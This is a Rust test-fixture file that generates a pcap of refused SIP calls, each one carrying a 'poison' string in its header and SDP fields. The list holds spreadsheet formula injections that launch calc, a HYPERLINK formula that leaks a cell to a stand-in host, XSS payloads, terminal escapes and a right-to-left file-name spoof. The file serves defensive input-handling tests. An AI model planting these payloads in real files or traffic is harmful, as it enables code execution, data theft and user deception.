//! A capture in which every text is what a stranger would write to make somebody else's program run it.

use std::net::SocketAddr;

use crate::support::capture_file::Format;
use crate::support::capture_file::render;
use crate::support::wire::Link;
use crate::support::wire::Packet;
use crate::support::wire::Wire;
use crate::support::wire::frame;

/// What a stranger may write into a header: formulas, ends of cells and lines, terminal sequences, bidirectional controls.
pub(crate) const POISONS: [&[u8]; 26] = [
    b"=1+1",
    b"+cmd|' /C calc'!A0",
    b"-2+3+cmd|' /C calc'!A0",
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b"=HYPERLINK(\"http://192.0.2.66/?\"&A1,\"click\")",
    b"\t=1+1",
    b"\"=1+1",
    b"\",=1+1,\"",
    b"\"\"\"\"",
    b"'=1+1",
    "\u{ff1d}1+1".as_bytes(),
    b"a\x00b",
    b"\x1b[2J\x1b]0;gone\x07",
    b"\x9b31m",
    "\u{9b}31m".as_bytes(),
    b"back\x08\x08\x7f",
    "safe\u{202e}gpj.exe".as_bytes(),
    "\u{2066}\u{2069}\u{200f}\u{2028}".as_bytes(),
    b"\xff\xfe\xc3\x28\xed\xa0\x80",
    b"a;b;=1+1",
    b"</script><script>alert(1)</script>",
    b"<img src=x onerror=alert(1)>",
    b"\"><svg onload=alert(1)>",
    b"<!--",
    b"javascript:alert(1)",
    b"_x003D_1+1",
];

const SBC: &str = "192.0.2.10:5060";
const TEAMS: &str = "52.114.7.24:5061";

/// A refused call with the poison in every text that reaches a cell.
fn call(number: usize, poison: &[u8]) -> [Vec<u8>; 2] {
    let fill = |text: &str| {
        let mut bytes = Vec::new();
        for (place, part) in text.split('%').enumerate() {
            if place > 0 {
                bytes.extend_from_slice(poison);
            }
            bytes.extend_from_slice(part.as_bytes());
        }
        bytes
    };
    let common = format!(
        "Via: SIP/2.0/UDP 192.0.2.10;branch=z9hG4bK{number}\r\nFrom: <sip:%@192.0.2.10>;tag=%{number}\r\n\
         To: <sip:%@sip.pstnhub.microsoft.com>\r\nCall-ID: %{number}\r\nCSeq: 1 INVITE\r\n"
    );
    let sdp = "v=0\r\no=- 1 1 IN IP4 192.0.2.10\r\ns=%\r\nc=IN IP4 %\r\nt=0 0\r\nm=audio 4000 RTP/SAVP 0 96\r\n\
               a=rtpmap:96 %/8000\r\na=crypto:1 % inline:WVNfX19zZW1jdGwgKCkgewkyMjA7fQp9CnVubGVz\r\n";
    let sdp = fill(sdp);
    let mut invite = fill(&format!(
        "INVITE sip:%@sip.pstnhub.microsoft.com SIP/2.0\r\n{common}Contact: <sip:%@%.example.org:5060>\r\n\
         User-Agent: %\r\nContent-Type: application/sdp\r\nContent-Length: {}\r\n\r\n",
        sdp.len()
    ));
    invite.extend_from_slice(&sdp);
    let refusal = fill(&format!(
        "SIP/2.0 488 %\r\n{common}Server: %\r\n\
         Reason: Q.850;cause=88;text=\"%; 531000 %\"\r\nWarning: 399 % \"%\"\r\nContent-Length: 0\r\n\r\n"
    ));
    [invite, refusal]
}

/// A capture of one such call for each poison.
pub(crate) fn capture() -> Vec<u8> {
    let [sbc, teams]: [SocketAddr; 2] = [SBC, TEAMS].map(|end| end.parse().expect("an address"));
    let mut wire = Wire::counting_from(1);
    let mut packets = Vec::new();
    for (number, poison) in POISONS.iter().enumerate() {
        let [invite, refusal] = call(number, poison);
        for (from, to, payload) in [(sbc, teams, invite), (teams, sbc, refusal)] {
            for packet in wire.datagram(from, to, &payload, 1500) {
                packets.push(Packet {
                    time: (1_700_000_000 + packets.len() as u64) * 1_000_000_000,
                    bytes: frame(Link::Ethernet, from.ip(), to.ip(), &packet),
                    cut: None,
                    link: Link::Ethernet,
                    file: 0,
                });
            }
        }
    }
    render(Format::Pcap, &packets.iter().collect::<Vec<_>>())
}
